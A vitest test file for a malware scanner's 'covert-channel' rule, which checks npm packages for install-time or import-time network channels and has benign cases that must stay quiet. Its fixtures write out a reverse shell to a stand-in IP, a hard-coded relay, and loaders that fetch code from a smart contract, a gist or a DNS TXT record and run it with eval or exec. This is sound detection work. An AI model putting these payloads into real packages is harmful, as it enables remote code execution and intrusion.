import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { finding } from '../test/helpers/findings.js';
import { ipLiteral } from '../src/engine/catalog.js';

const RULE = 'covert-channel';

describe('ipLiteral', () => {
  test.each([
    ['203.0.113.7', '203.0.113.7'],
    ['3405803783', '203.0.113.7'],
    ['0xCB007107', '203.0.113.7'],
    ['0313.0.0161.7', '203.0.113.7'],
    ['2001:db8::7', '2001:db8::7'],
    ['[2001:db8::7]', '2001:db8::7'],
  ])('%s is %s', (input, out) => expect(ipLiteral(input)).toBe(out));
  test.each(['example.invalid', '1.2.3', '12345', 'deadbeef', 'a::b::c', '10.0.0'])('%s is not an IP', (s) => expect(ipLiteral(s)).toBeUndefined());
});

describe('covert-channel reports', () => {
  test.each([
    ['a reverse shell to a dotted IP', "const net = require('net'); const cp = require('child_process');\nconst c = net.connect(4444, '203.0.113.7');\nconst sh = cp.spawn('/bin/sh', []);\nc.pipe(sh.stdin); sh.stdout.pipe(c);", '203.0.113.7:4444'],
    ['an integer IP', "const net = require('net');\nconst s = new net.Socket();\ns.connect(8443, '3405803783');\ns.write('hi');", '203.0.113.7'],
    ['a hex IP with options', "const tls = require('tls');\ntls.connect({ host: '0xCB007107', port: 443 }).write('x');", '203.0.113.7'],
    ['an IPv6 address', "const net = require('net');\nnet.createConnection({ host: '2001:db8::7', port: 9001 });", '2001:db8::7'],
    ['a relay to a hard-coded host', "const net = require('net');\nnet.createServer((inbound) => { const out = net.connect(1080, 'relay.example.invalid'); inbound.pipe(out); out.pipe(inbound); }).listen(0);\nconst up = net.connect(9000, 'relay.example.invalid'); up.pipe(process.stdout);", 'relay.example.invalid'],
  ])('%s at install is malicious', (_label, code, where) => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node i.js' } }), 'i.js': code });
    expect(r.of(RULE)).toContainEqual(finding(expect.stringMatching(/critical|high/) as never, ['covert-channel'], { reach: 'install', message: expect.stringContaining(where) }));
    expect(r.verdict).toBe('malicious');
  });

  test('a socket to a hard-coded IP opened on import is high and malicious', () => {
    const r = scanFiles({ 'index.js': "const net = require('net');\nconst c = net.connect(4444, '203.0.113.7');\nc.on('data', (d) => c.write(d));\nmodule.exports = {};" });
    expect(r.of(RULE)).toEqual([finding('high', ['covert-channel'], { reach: 'import' })]);
    expect(r.verdict).toBe('malicious');
  });

  test.each([
    ['an eth_call to a hard-coded contract whose answer is fetched and run', "async function main() {\n  const res = await fetch('https://rpc.example.invalid', { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x1111111111111111111111111111111111111111', data: '0x6d4ce63c' }, 'latest'] }) });\n  const { result } = await res.json();\n  const url = Buffer.from(result.slice(130), 'hex').toString().replace(/\\0/g, '');\n  const code = await (await fetch(url)).text();\n  eval(atob(code));\n}\nmain();", 'eth_call'],
    ['a gist that names the next server', "const https = require('https');\nhttps.get('https://gist.githubusercontent.com/someone/abc/raw/c2.txt', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => { require('child_process').exec(Buffer.from(d, 'base64').toString()); }); });", 'gist'],
    ['a DNS TXT record that holds code', "const dns = require('dns');\ndns.resolveTxt('cfg.example.invalid', (e, recs) => { new Function(Buffer.from(recs[0].join(''), 'base64').toString())(); });", 'DNS TXT'],
  ])('%s at install is malicious', (_label, code, what) => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node i.js' } }), 'i.js': code });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['dead-drop'], { message: expect.stringContaining(what) }));
    expect(r.verdict).toBe('malicious');
  });
});

describe('covert-channel stays quiet', () => {
  test.each([
    ['a proxy agent connecting where the caller says', "const net = require('net');\nmodule.exports = function connect(opts) { const s = net.connect(opts.port, opts.host); return s; };"],
    ['an HTTP CONNECT proxy in a function', "const net = require('net');\nmodule.exports = (req, client) => { const [h, p] = req.url.split(':'); const up = net.connect(+p, h); client.pipe(up); up.pipe(client); };"],
    ['a database client with a default local host', "const net = require('net');\nmodule.exports = () => net.connect(5432, 'localhost');"],
    ['an RPC client calling eth_call on a contract when asked', "module.exports = async function balanceOf(rpc, who) { const r = await fetch(rpc, { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x1111111111111111111111111111111111111111', data: '0x70a08231' + who }, 'latest'] }) }); return (await r.json()).result; };"],
    ['a DNS TXT lookup in a function (SPF checker)', "const dns = require('dns');\nmodule.exports = (domain, cb) => dns.resolveTxt(domain, cb);"],
  ])('%s', (_label, code) => {
    const r = scanFiles({ 'index.js': code });
    expect(r.of(RULE).every((f) => f.severity === 'low')).toBe(true);
    if (/eth_call|resolveTxt/.test(code)) expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });
});
